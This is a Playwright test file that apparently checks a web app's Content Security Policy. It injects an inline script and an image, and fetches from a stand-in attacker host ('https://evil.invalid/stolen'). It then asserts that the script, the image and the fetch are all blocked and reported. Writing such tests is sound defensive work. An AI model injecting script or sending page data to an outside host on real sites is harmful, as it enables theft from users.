import type { Browser, Page } from 'playwright-core'
import { startCommunity, type Community } from '../scenario/community'
import { launchChromium } from './chromium'

let browser: Browser
let community: Community
beforeAll(async () => {
  community = await startCommunity()
  browser = await launchChromium()
}, 120_000)
afterAll(async () => {
  await browser.close()
  await community.stop()
})

// That no page needs what is forbidden is seen by npm run looks.
const LISTEN = `
  window.forbidden = []
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
    window.forbidden.push(violatedDirective + ' ' + blockedURI))`
const forbidden = (page: Page) => page.evaluate('window.forbidden') as Promise<string[]>

it('lets nothing run that was written into a page, and nothing be sent elsewhere', async () => {
  const page = await browser.newPage()
  await page.addInitScript(LISTEN)
  await page.goto(`${community.server.base}/pages/home/index`)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.taken = true'
    document.body.append(script)
    const picture = document.createElement('img')
    picture.src = 'https://evil.invalid/stolen'
    document.body.append(picture)
  })
  const sent = await page.evaluate(() =>
    fetch('https://evil.invalid/stolen').then(
      () => 'sent',
      () => 'not sent',
    ),
  )
  expect(sent).toBe('not sent')
  expect(await page.evaluate('window.taken')).toBeUndefined()
  const told = await forbidden(page)
  for (const directive of [
    'script-src-elem inline',
    'img-src https://evil.invalid/',
    'connect-src https://evil.invalid/',
  ])
    expect(told.some((it) => it.startsWith(directive))).toBe(true)
  await page.close()
})
